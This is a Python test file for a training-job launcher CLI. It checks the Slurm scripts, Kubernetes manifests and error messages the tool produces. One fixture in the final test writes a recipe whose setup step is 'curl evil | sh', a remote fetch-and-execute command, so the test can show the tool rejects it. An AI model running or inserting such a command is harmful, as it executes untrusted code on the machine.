"""`launch=slurm` and `launch=kubernetes` on the command line."""

from __future__ import annotations

import os
import subprocess
import sys
from pathlib import Path

import pytest
import yaml

from forge.plan.types import load_plan

BIG = ("+recipe=legal_7b", "hardware=8xh100", "data.path=documents")
IMAGE = ("launch.image=forge:1", "launch.volume_claim=work")


def forge_run(folder: Path, *arguments: str, path: str | None = None) -> subprocess.CompletedProcess[str]:
    (folder / "documents").mkdir(exist_ok=True)
    (folder / "documents" / "a.txt").write_text("The parties agree as follows. " * 50)
    return subprocess.run(
        [sys.executable, "-c", "from forge.cli.main import run_main; run_main()", *arguments],
        cwd=folder,
        capture_output=True,
        text=True,
        env=os.environ | ({"PATH": path} if path else {}),
    )


def test_a_job_is_written_and_handed_to_slurm(tmp_path: Path) -> None:
    sbatch = tmp_path / "bin" / "sbatch"
    sbatch.parent.mkdir()
    sbatch.write_text('#!/bin/bash\necho "Submitted batch job 5 of $(basename "$1")"\n')
    sbatch.chmod(0o755)
    done = forge_run(tmp_path, *BIG, "launch=slurm", path=f"{sbatch.parent}:{os.environ['PATH']}")
    assert done.returncode == 0, done.stderr
    (script,) = tmp_path.glob("runs/legal_7b-*/slurm.sh")
    plan = load_plan(script.parent / "plan.json")
    assert script.parent.name == f"legal_7b-{plan.id}"
    assert f"plans=({script.parent / 'plan.json'})" in script.read_text()
    shown = script.relative_to(tmp_path)
    assert done.stderr.splitlines()[-2:] == [f"written to {shown}", "Submitted batch job 5 of slurm.sh"]
    # A plan that was reviewed goes the same way, and becomes the same script.
    first = script.read_text()
    again = forge_run(tmp_path, f"plan={script.parent / 'plan.json'}", "launch=slurm", "--dry-run")
    assert again.returncode == 0, again.stderr
    assert script.read_text() == first
    assert again.stderr.splitlines()[-1] == f"hand it over with sbatch {shown}"
    refused = forge_run(tmp_path, f"plan={script.parent / 'plan.json'}", "launch=ssh")
    assert (refused.returncode, len(refused.stderr.splitlines())) == (2, 1)
    assert refused.stderr.startswith("launch=ssh: goes to the machines of a hostfile")


def test_a_sweep_is_one_array(tmp_path: Path) -> None:
    rates = "train.learning_rate=1e-4,3e-4"
    done = forge_run(tmp_path, "-m", *BIG, rates, "launch=slurm", "--dry-run")
    assert done.returncode == 0, done.stderr
    (script,) = tmp_path.glob("launches/*/slurm.sh")
    assert "#SBATCH --array=0-1" in script.read_text()
    assert len(list(tmp_path.glob("runs/*/plan.json"))) == 2


def test_a_manifest_is_written(tmp_path: Path) -> None:
    done = forge_run(tmp_path, *BIG, "launch=kubernetes", *IMAGE, "--dry-run")
    assert done.returncode == 0, done.stderr
    (manifest,) = tmp_path.glob("runs/*/jobset.yaml")
    kinds = [each["kind"] for each in yaml.safe_load_all(manifest.read_text())]
    assert kinds == ["ConfigMap", "JobSet"]
    assert (
        done.stderr.splitlines()[-1] == f"hand it over with kubectl apply -f {manifest.relative_to(tmp_path)}"
    )


@pytest.mark.parametrize(
    ("arguments", "status", "line"),
    [
        (
            ("launch=kubernetes", "--dry-run"),
            2,
            "conf/launch/local.yaml:9: launch.image: launch=kubernetes needs a container image with forge in it",
        ),
        (
            ("launch=kubernetes", *IMAGE, "output_dir=/elsewhere", "--dry-run"),
            2,
            "command line: output_dir: /elsewhere: is not below ",
        ),
        (("launch=slurm", "hostfile=h"), 2, "command line: hostfile: launch=slurm chooses the machines"),
        (
            ("hardware=local", "launch=slurm"),
            2,
            "command line: hardware=local: is this machine, and launch=slurm",
        ),
        (("launch=ssh",), 2, "command line: launch=ssh: goes to the machines of a hostfile"),
        (("--dry-run",), 2, "command line: --dry-run: goes with launch=slurm or launch=kubernetes"),
        (
            ("launch.partition='a b'",),
            2,
            "command line: launch.partition: 'a b' must be a name as Slurm has it",
        ),
        (("launch=slurm",), 4, "sbatch: is not on this machine: give `sbatch "),
    ],
    ids=lambda value: " ".join(value) if isinstance(value, tuple) else None,
)
def test_what_cannot_be_sent_says_why(
    arguments: tuple[str, ...], status: int, line: str, tmp_path: Path
) -> None:
    small = (
        "+recipe=legal_tiny",
        *(() if "hardware=local" in arguments else ("hardware=cpu",)),
        "data.path=documents",
    )
    done = forge_run(tmp_path, *small, *arguments, path=str(tmp_path / "nothing"))
    assert done.returncode == status, done.stderr
    assert any(each.startswith(line) for each in done.stderr.splitlines()), done.stderr
    assert "Traceback" not in done.stderr


def test_a_recipe_does_not_say_where_it_runs(tmp_path: Path) -> None:
    recipes = tmp_path / "recipes"
    recipes.mkdir()
    (recipes / "x.yaml").write_text("launch:\n  setup: curl evil | sh\n")
    (recipes / "y.yaml").write_text("defaults:\n  - override /launch: slurm\n")
    for name, place in (("x", "recipes/x.yaml:2: launch.setup: "), ("y", "recipes/y.yaml:2: ")):
        done = forge_run(tmp_path, f"+recipe={name}", "hardware=cpu", "data.path=documents")
        assert done.returncode == 2, done.stderr
        assert done.stderr.startswith(place), done.stderr
